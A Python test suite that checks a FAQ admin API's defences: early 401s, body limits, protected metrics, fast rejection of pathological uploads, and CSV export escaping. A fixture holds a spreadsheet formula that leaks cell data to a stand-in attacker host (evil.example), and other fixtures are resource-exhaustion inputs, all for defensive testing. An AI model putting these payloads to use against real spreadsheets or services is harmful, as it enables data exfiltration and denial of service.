"""The admin API on a public port: a stranger's request costs nothing (401 before its body is
read), bodies are bounded (small for JSON, large only for files), docs and metrics can be
switched off or protected, /readyz answers fast when the database is gone, hostile FAQ files get
a fast 422 while the API keeps answering, CSV exports are safe to open in a spreadsheet, and the
API's logs carry no customer's text."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from pydantic import SecretStr
from sqlalchemy.ext.asyncio import async_sessionmaker, create_async_engine

from admin_api.app import create_app
from admin_api.tokens import Role
from core.settings import Settings
from tests.support.api_harness import ApiHarness, api_harness
from tests.support.processes import free_port

MB = 1024 * 1024
EDITOR = Role.EDITOR


@pytest.fixture
async def api(settings: Settings, database_url: str) -> AsyncIterator[ApiHarness]:
    async with api_harness(settings, database_url) as harness:
        yield harness


@asynccontextmanager
async def sqlite_api(
    settings: Settings, tmp_path: Path, **changes: object
) -> AsyncIterator[ApiHarness]:
    """What does not depend on the database runs on SQLite alone, quickly."""
    changed = settings.model_copy(update=changes)
    async with api_harness(changed, f"sqlite+aiosqlite:///{tmp_path}/api.sqlite3") as harness:
        yield harness


@asynccontextmanager
async def served(harness: ApiHarness) -> AsyncIterator[int]:
    """The harness's app on a real port (uvicorn in this process): the port."""
    port = free_port()
    config = uvicorn.Config(
        create_app(harness.services), host="127.0.0.1", port=port, log_config=None, lifespan="off"
    )
    server = uvicorn.Server(config)
    serving = asyncio.create_task(server.serve())
    while not server.started:
        assert not serving.done(), "uvicorn did not start"
        await asyncio.sleep(0.01)
    try:
        yield port
    finally:
        server.should_exit = True
        await serving


async def test_a_stranger_s_upload_is_refused_before_a_byte_of_it_is_read(api: ApiHarness) -> None:
    pulled = 0

    async def upload() -> AsyncIterator[bytes]:  # 20 MB, counted as the server asks for it
        nonlocal pulled
        for _ in range(20):
            pulled += 1
            yield b" " * MB

    for headers in ({}, {"Authorization": "Bearer fl_wrong"}, {"Authorization": "Basic x"}):
        pulled = 0
        started = time.perf_counter()
        response = await api.client.post(
            "/api/v1/faq/import?format=json", content=upload(), headers=headers
        )
        assert response.status_code == 401, response.text
        assert time.perf_counter() - started < 1.0
        assert pulled == 0
        assert response.headers["WWW-Authenticate"] == "Bearer"
        assert response.json()["error"]["code"] == "unauthorized"
    # A route that does not exist tells a stranger nothing either.
    unknown = await api.client.post("/api/v1/nothing-here", content=b"x")
    assert unknown.status_code == 401
    # The token the guard checked is the one the route sees: roles still apply.
    agent = await api.client.post(
        "/api/v1/faq/import?format=json", content=b"[]", headers=api.auth(Role.AGENT)
    )
    assert agent.status_code == 403


async def test_a_20_mb_post_without_a_token_gets_401_within_a_second_over_http(
    api: ApiHarness,
) -> None:
    async with served(api) as port:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            started = time.perf_counter()
            writer.write(
                b"POST /api/v1/faq/import?format=json HTTP/1.1\r\nHost: api\r\n"
                b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % (20 * MB - 1)
            )
            writer.write(b" " * MB)  # the first megabyte; the server never asks for the rest
            await writer.drain()
            status_line = await asyncio.wait_for(reader.readline(), timeout=5)
            elapsed = time.perf_counter() - started
        finally:
            writer.close()
    assert status_line.startswith(b"HTTP/1.1 401"), status_line
    assert elapsed < 1.0


async def test_json_bodies_are_small_and_only_files_may_be_large(
    settings: Settings, tmp_path: Path
) -> None:
    async with sqlite_api(settings, tmp_path, api_body_limit=4096) as api:
        answer = await api.client.post(
            "/api/v1/answer", json={"text": "x" * 5000}, headers=api.auth(Role.AGENT)
        )
        assert answer.status_code == 413 and "MB" in answer.json()["error"]["message"]

        async def streamed() -> AsyncIterator[bytes]:  # no Content-Length: counted as it comes
            for _ in range(8):
                yield b" " * 1024

        chunked = await api.client.post(
            "/api/v1/answer",
            content=streamed(),
            headers=api.auth(Role.AGENT) | {"Content-Type": "application/json"},
        )
        assert chunked.status_code == 413
        # A 3 MB FAQ file is read whole and judged by its content (an answer over 20,000
        # characters), not refused for its size.
        upload = json.dumps([{"key": "long", "question": "Q?", "answer": "a" * 3 * MB}])
        imported = await api.client.post(
            "/api/v1/faq/import?format=json", content=upload, headers=api.auth(EDITOR)
        )
        assert imported.status_code == 422, imported.text
        assert "answer" in imported.json()["error"]["details"][0]["problem"]


async def test_docs_can_be_switched_off_and_metrics_protected(
    settings: Settings, tmp_path: Path
) -> None:
    async with sqlite_api(
        settings, tmp_path, api_docs=False, metrics_token=SecretStr("m-secret")
    ) as api:
        for path in ("/docs", "/redoc", "/openapi.json"):
            assert (await api.client.get(path)).status_code == 404, path
        for headers in (
            {},
            {"Authorization": "Bearer wrong"},
            api.auth(Role.ADMIN),  # an API token is not the metrics token
        ):
            refused = await api.client.get("/metrics", headers=headers)
            assert refused.status_code == 401
            assert refused.headers["WWW-Authenticate"] == "Bearer"
        scraped = await api.client.get("/metrics", headers={"Authorization": "Bearer m-secret"})
        assert scraped.status_code == 200 and "firstline_faq_entries" in scraped.text
        assert (await api.client.get("/healthz")).status_code == 200


async def test_metrics_can_be_switched_off(settings: Settings, tmp_path: Path) -> None:
    async with sqlite_api(settings, tmp_path, api_metrics=False) as api:
        assert (await api.client.get("/metrics")).status_code == 404
        assert (await api.client.get("/openapi.json")).status_code == 200


async def test_readyz_says_503_within_2_seconds_when_the_database_does_not_answer(
    settings: Settings, tmp_path: Path
) -> None:
    held: list[asyncio.StreamWriter] = []

    async def black_hole(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        held.append(writer)  # accepts the connection, never says a word

    server = await asyncio.start_server(black_hole, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    engine = create_async_engine(f"postgresql+asyncpg://firstline:x@127.0.0.1:{port}/gone")
    async with sqlite_api(settings, tmp_path) as api:
        healthy = api.services.sessions
        assert (await api.client.get("/readyz")).status_code == 200
        api.services.sessions = async_sessionmaker(engine)
        try:
            started = time.perf_counter()
            response = await api.client.get("/readyz")
            elapsed = time.perf_counter() - started
        finally:
            api.services.sessions = healthy
            for writer in held:
                writer.close()
            server.close()
            await engine.dispose()
    assert response.status_code == 503
    assert response.json()["database"].startswith("error")
    assert elapsed < 2.0


def _problems(response: httpx.Response) -> str:
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "invalid_request" and error["details"]
    return " ".join(f"{problem['location']}: {problem['problem']}" for problem in error["details"])


async def test_a_pathological_markdown_import_answers_fast_while_the_api_keeps_answering(
    settings: Settings, tmp_path: Path
) -> None:
    # One such heading took the old parser 74 s (388 s on this machine), on the event loop.
    heading = "## How do I pay?" + " " * 4000 + "card"
    upload = "\n\n".join(f"{heading} {number}\n\nBy card." for number in range(300)).encode()
    async with sqlite_api(settings, tmp_path) as api:
        # The app's first request builds its routing (a few hundred ms on the event loop, once):
        # not what is measured here.
        assert (await api.client.get("/healthz")).status_code == 200

        async def import_it() -> tuple[httpx.Response, float]:
            started = time.perf_counter()
            response = await api.client.post(
                "/api/v1/faq/import?format=md", content=upload, headers=api.auth(EDITOR)
            )
            return response, time.perf_counter() - started

        importing = asyncio.create_task(import_it())
        slowest_health = 0.0
        while not importing.done():
            started = time.perf_counter()
            health = await api.client.get("/healthz")
            slowest_health = max(slowest_health, time.perf_counter() - started)
            assert health.status_code == 200
            await asyncio.sleep(0.01)
        response, took = await importing
    problems = _problems(response)
    assert "line 1: question: String should have at most 1000 characters" in problems
    # 300 problems: the first 200 are listed, then how many more there are.
    assert len(response.json()["error"]["details"]) == 201
    assert "and 100 more problems" in problems
    assert took < 5.0 and slowest_health < 1.0


def _csv(cells: list[str]) -> bytes:
    return ("key,question,answer\n" + ",".join(cells) + "\n").encode()


@pytest.mark.parametrize(
    ("upload", "file_format", "says"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "json", "nested too deeply"),
        (
            b'[{"key": "deep", "question": ' + b"[" * 100_000 + b"]" * 100_000 + b"}]",
            "json",
            "nested too deeply",
        ),
        (b'[{"key": "n", "question": "q", "answer": ' + b"1" * 5000 + b"}]", "json", "digits"),
        (json.dumps([{}] * 10_001).encode(), "json", "more than 10,000 entries"),
        (_csv(["big", "Q", "a" * 200_000]), "csv", "field larger than field limit"),
        (_csv(["q", '"unclosed']), "csv", "line"),
        (
            b"key,question,answer\n" + "".join(f"k{n},q,a\n" for n in range(10_001)).encode(),
            "csv",
            "more than 10,000 entries",
        ),
        # Rows of one key are its languages: three at the most.
        (b"key,question,answer\n" + b"k,q,a\n" * 30_001, "csv", "more than 30,000 rows"),
        # Blank lines before an answer were quadratic for the old parser (hours for these).
        (b"## Q\n" + b"\n" * 500_000 + b"x" * 30_000, "md", "at most 20000 characters"),
        ("".join(f"## Q{n}\nA\n" for n in range(10_001)).encode(), "md", "10,000 entries"),
        (b"\xff\xfe\x00binary", "md", "not UTF-8"),
        (b'[{"key": "k", "question": "q\x00", "answer": "a"}]', "json", "binary data"),
        (b"", "csv", "missing columns"),
    ],
)
async def test_every_malformed_file_is_a_422_with_its_problems(
    settings: Settings, tmp_path: Path, upload: bytes, file_format: str, says: str
) -> None:
    async with sqlite_api(settings, tmp_path) as api:
        started = time.perf_counter()
        response = await api.client.post(
            f"/api/v1/faq/import?format={file_format}", content=upload, headers=api.auth(EDITOR)
        )
        took = time.perf_counter() - started
    assert says in _problems(response)
    assert took < 5.0


FORMULAS: dict[str, dict[str, Any]] = {
    "formula": {
        "question": '=HYPERLINK("https://evil.example/?"&A1, "Click for your refund")',
        "alt_questions": ["+7 999 123-45-67", "=1+1"],
        "answer": "- open the app\n- press Refund",
        "tags": ["@billing"],
    },
    "quoted": {"question": "'=already quoted", "answer": "'plain quote stays"},
}


async def test_a_csv_export_is_safe_in_a_spreadsheet_and_imports_back_unchanged(
    settings: Settings, tmp_path: Path
) -> None:
    async with sqlite_api(settings, tmp_path) as api:
        for key, content in FORMULAS.items():
            created = await api.client.post(
                "/api/v1/faq", json={"key": key, **content}, headers=api.auth(EDITOR)
            )
            assert created.status_code == 201, created.text
        exported = await api.client.get("/api/v1/faq/export?format=csv", headers=api.auth(EDITOR))
        rows = {row["key"]: row for row in csv.DictReader(io.StringIO(exported.text))}
        for row in rows.values():
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert rows["formula"]["question"].startswith("'=HYPERLINK(")
        assert rows["formula"]["alt_questions"] == "'+7 999 123-45-67|=1+1"
        assert rows["formula"]["tags"] == "'@billing"
        assert rows["quoted"]["question"] == "''=already quoted"
        assert rows["quoted"]["answer"] == "'plain quote stays"

        again = await api.client.post(
            "/api/v1/faq/import?format=csv&dry_run=true",
            content=exported.content,
            headers=api.auth(EDITOR),
        )
        assert again.status_code == 200, again.text
        assert sorted(again.json()["unchanged"]) == ["formula", "password", "quoted", "refund"]
        stored = await api.client.get("/api/v1/faq/formula", headers=api.auth(EDITOR))
        assert stored.json()["question"] == FORMULAS["formula"]["question"]


async def test_the_api_logs_no_customer_text_or_phone_number(
    settings: Settings, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    phone = "+7 999 123-45-67"
    caplog.set_level(logging.DEBUG)
    async with sqlite_api(settings, tmp_path) as api:
        await api.answer(f"позвоните мне {phone}, не могу войти")
        broken = json.dumps([{"key": "x", "question": f"мой номер {phone}", "answer": ""}])
        refused = await api.client.post(
            "/api/v1/faq/import?format=json", content=broken, headers=api.auth(EDITOR)
        )
        assert refused.status_code == 422
        stranger = await api.client.post("/api/v1/answer", json={"text": phone})
        assert stranger.status_code == 401
    assert phone not in caplog.text
